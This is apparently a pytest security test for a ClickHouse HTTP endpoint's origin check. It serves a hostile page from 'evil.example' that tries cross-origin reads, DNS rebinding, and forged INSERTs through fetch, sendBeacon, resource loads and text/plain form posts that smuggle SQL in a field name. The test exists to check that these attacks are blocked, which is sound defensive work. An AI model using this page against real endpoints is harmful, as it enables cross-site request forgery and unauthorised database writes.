"""A page on another origin, in a real browser, reads nothing from the embedded endpoint and makes it run nothing.

The page knows the owner's password: what holds here, holds for the reader's too.
"""

from __future__ import annotations

import json
import re
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from streams.connectors.clickhouse import origin_check
from streams.connectors.clickhouse.http_interface import OWNER
from tests.security.store_endpoint import OWNER_PASSWORD, Endpoint, endpoint

pytestmark = pytest.mark.kafka  # with what else needs more than Python: `make test-kafka`

PAGE = """<!doctype html><title>evil</title><body><script>
const at = STORE, who = "user=OWNER&password=PASSWORD&", found = {};
const insert = n => `INSERT INTO streamgauge.events (event_id, received_at) VALUES ('forged-${n}', now())`;
const reads = async (name, promise) => {
  try { const answer = await promise; found[name] = (await answer.text()).trim(); } catch { found[name] = ""; }
};
const loads = (tag, url) => new Promise(done => {
  const element = document.createElement(tag);
  element.onload = element.onerror = done;
  element[tag === "link" ? "href" : tag === "object" ? "data" : "src"] = url;
  if (tag === "link") element.rel = "stylesheet";
  document.body.append(element);
});
const posts = (name, type) => new Promise(done => {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  const field = document.createElement("textarea");
  frame.name = name; document.body.append(frame);
  form.action = at + "?" + who; form.method = "post"; form.enctype = type; form.target = name;
  const plain = type === "text/plain";  // sent as NAME=VALUE
  field.name = plain ? insert(name) + " -- " : "query"; field.value = plain ? "" : insert(name);
  form.append(field); document.body.append(form);
  frame.onload = done; form.submit(); setTimeout(done, 3000);
});
(async () => {
  const select = at + "?" + who + "query=" + encodeURIComponent("SELECT 'can' || 'ary'");
  await reads("get", fetch(select));
  await reads("no-cors", fetch(select, {mode: "no-cors"}));
  await reads("credentials", fetch(select, {credentials: "include"}));
  await reads("post", fetch(at + "?" + who, {method: "POST", body: "SELECT 'can' || 'ary'"}));
  await reads("header", fetch(at, {method: "POST", body: "SELECT 'can' || 'ary'",
    headers: {"X-ClickHouse-User": "OWNER", "X-ClickHouse-Key": "PASSWORD"}}));
  await reads("insert", fetch(at + "?" + who, {method: "POST", body: insert("cors")}));
  await reads("text", fetch(at + "?" + who, {method: "POST", mode: "no-cors", body: insert("no-cors")}));
  navigator.sendBeacon(at + "?" + who, insert("beacon"));
  window.canary = "";
  const script = at + "?" + who + "default_format=TSVRaw&query=" + encodeURIComponent("SELECT 'window.canary = 1'");
  for (const tag of ["script", "img", "iframe", "link", "object"]) await loads(tag, script);
  await posts("plain", "text/plain");
  await posts("form", "multipart/form-data");
  found.script = String(window.canary);
  await new Promise(done => setTimeout(done, 500));
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
  document.title = "done";
})();
</script>"""


class Evil:
    """A server of a page, on an origin of its own, that is told what the page found."""

    def __init__(self, store: Endpoint, at: str) -> None:
        self.found: dict[str, str] | None = None
        self.reported = threading.Event()
        page = PAGE.replace("STORE", json.dumps(at)).replace("OWNER", OWNER).replace("PASSWORD", OWNER_PASSWORD)
        evil = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(page.encode())

            def do_POST(self) -> None:
                evil.found = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()
                evil.reported.set()

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self.store = store
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def visit(self, host: str, folder: Path) -> dict[str, str]:
        """Open the page in Chromium under a name of ours; return what it read."""
        browser = subprocess.Popen(
            ["chromium", "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
             f"--user-data-dir={folder}", "--host-resolver-rules=MAP * 127.0.0.1", "--no-proxy-server",
             "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
             f"http://{host}:{self.server.server_port}/"],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        try:
            assert self.reported.wait(90), "the page did not end"
        finally:
            browser.kill()
            browser.wait()
        assert self.found is not None
        return self.found


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Endpoint]:
    (tmp_path / "endpoint").mkdir()
    with endpoint(tmp_path / "endpoint") as running:
        yield running


def visit(store: Endpoint, page: str, at: str, folder: Path) -> dict[str, str]:
    evil = Evil(store, at)
    try:
        return evil.visit(page, folder / "profile")
    finally:
        evil.server.shutdown()
        evil.server.server_close()


def forged(store: Endpoint) -> set[str]:
    return set(re.findall(r"forged-([\w-]+)", store.ask("SELECT event_id FROM streamgauge.events", OWNER).text))


# Another site; another origin of the same site; a name of the page's own that was pointed at loopback (DNS rebinding).
@pytest.mark.parametrize(
    ("page", "host"), [("evil.example", "127.0.0.1"), ("127.0.0.1", "127.0.0.1"), ("evil.example", "evil.example")]
)
def test_a_page_of_another_origin_reads_nothing_and_runs_nothing(
    store: Endpoint, tmp_path: Path, page: str, host: str
) -> None:
    found = visit(store, page, f"http://{host}:{store.server.port}/", tmp_path)
    assert set(found) >= {"get", "post", "header", "insert", "script"}
    assert not any("canary" in value for value in found.values())
    assert found["script"] == ""
    assert forged(store) == set()


def test_without_the_check_the_same_page_runs_queries(
    store: Endpoint, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(origin_check, "origin_problem", lambda *_: "")
    visit(store, "evil.example", f"http://127.0.0.1:{store.server.port}/", tmp_path)
    assert forged(store) >= {"cors", "no-cors", "beacon", "plain"}
